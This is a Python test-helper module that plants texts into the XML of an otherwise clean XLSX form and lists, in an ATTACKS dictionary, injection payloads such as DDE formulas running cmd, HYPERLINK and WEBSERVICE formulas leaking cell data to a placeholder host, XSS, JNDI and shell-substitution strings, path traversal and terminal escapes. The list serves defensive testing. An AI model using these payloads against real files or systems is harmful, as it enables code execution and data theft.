"""Makes forms that do harm: texts that attack, parts that lie; on paper they are the clean form.

Texts are planted into the finished workbook's XML, so that anything a file may hold can stand in it,
not just what a library is willing to write.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from xml.sax.saxutils import escape

from tests import packages as p
from tests.cases import Case
from tests.paper import paper

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
SLOTS = {
    "agency": "forms.agency",
    "goal": "forms.annual_goal",
    "functions": "forms.functions",
    "project": "projects[0].name",
    "key_task": "indicators[32].key_task",
    "indicator": "indicators[35].name",
    "target": "indicators[36].full",
}
"""Where a text is planted, and the values of the clean form that make room for it."""


@cache
def form_parts() -> Mapping[str, bytes]:
    """Return the parts of the clean form, a marker in each slot."""
    return unpacked(paper(Case("", {name: f"SLOT.{slot}." for slot, name in SLOTS.items()})).data)


def unpacked(data: bytes) -> dict[str, bytes]:
    """Return the parts of a package by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def planted(text: str, sheet_name: str = "绩效目标表", slots: tuple[str, ...] = tuple(SLOTS)) -> bytes:
    """Return the clean form with a text in the slots named and in the name of its sheet."""
    found = dict(form_parts())
    sheet = found[SHEET].decode()
    for slot in SLOTS:
        sheet = sheet.replace(f"SLOT.{slot}.", in_xml(text) if slot in slots else slot)
    found[SHEET] = sheet.encode()
    book = found[BOOK].decode()
    head, _, rest = book.partition("<definedNames>")
    book = head + rest.partition("</definedNames>")[2]
    found[BOOK] = book.replace('name="绩效目标表"', f'name="{in_xml(sheet_name)}"').encode()
    return p.zip_bytes(found)


def in_xml(text: str) -> str:
    """Return a text as a workbook stores it: what XML cannot hold as `_xHHHH_`."""
    return "".join(_stored(char) for char in escape(text, {'"': "&quot;", "\r": "&#13;", "\t": "&#9;"}))


def _stored(char: str) -> str:
    bad = (char < " " and char not in "\t\n\r") or 0xD800 <= ord(char) < 0xE000 or char in "\ufffe\uffff"
    return f"_x{ord(char):04X}_" if bad else char


@cache
def clean_parts() -> Mapping[str, bytes]:
    """Return the parts of the clean form."""
    return unpacked(paper().data)


def with_part(name: str, change: Callable[[str], str]) -> bytes:
    """Return the clean form with one part's text changed; a change that changes nothing is a mistake."""
    before = clean_parts()[name].decode()
    after = change(before)
    assert after != before
    return p.zip_bytes({**clean_parts(), name: after.encode()})


def with_sheet(change: Callable[[str], str]) -> bytes:
    """Return the clean form with the text of its sheet changed."""
    return with_part(SHEET, change)


def with_rows(rows: str) -> bytes:
    """Return the clean form with rows after its last one."""
    return with_sheet(lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"))


def with_cell(address: str, content: str, kind: str = "n") -> bytes:
    """Return the clean form with one cell's content (`<v>…</v>`) and type changed."""
    cell = re.compile(rf'<c r="{address}"( s="[0-9]+")?[^>]*>.*?</c>', re.DOTALL)
    return with_sheet(lambda text: cell.sub(rf'<c r="{address}"\1 t="{kind}">{content}</c>', text, count=1))


ATTACKS: Mapping[str, str] = {
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full width": "＝1+1",
    "blank": " =1+1",
    "no width": "\u200b=1+1",
    "apostrophe": "'=1+1",
    "hyperlink": '=HYPERLINK("http://a.example/?x="&A1,"点我")',
    "webservice": '=WEBSERVICE("http://a.example/")',
    "out of a csv field": 'x",=1+1,"\n=1+1,',
    "a link": "http://a.example/?q=1",
    "script": "<script>alert(1)</script>",
    "image": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "ends of elements": "</td></table></details></style></script><!-- ]]> <h1>x",
    "markdown and mail": "# x\n[点我](javascript:alert(1)) |a|b|\r\nBcc: x@example.org\r\n\r\nbody",
    "templates": "{{7*7}} ${jndi:ldap://x/a} %s%n%(x)s {0.__class__} {} $(touch x)`touch y`",
    "escapes": "\x1b[31m红\x1b]0;title\x07\x1b[2J",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9b31m",
    "null": "a\x00b",
    "no characters": "\ud800x\ufffe\uffff",
    "turned round": "\u202etxt.exe\u202c \u2067x\u2069 \u200f",
    "emoji": "👩‍👩‍👧‍👦🇨🇳𠮷𪚥",
    "combining": "e" + "\u0301" * 5_000,
    "line ends": "a\u2028b\u2029c_x000D_d_x005F_x0041_",
    "path": "../../../../evil",
    "windows path": "C:\\..\\con",
    "many": "单" * 5_000,
    "true": "TRUE",
}
"""Short texts that attack whoever reads the outputs: spreadsheets, browsers, terminals, file systems."""
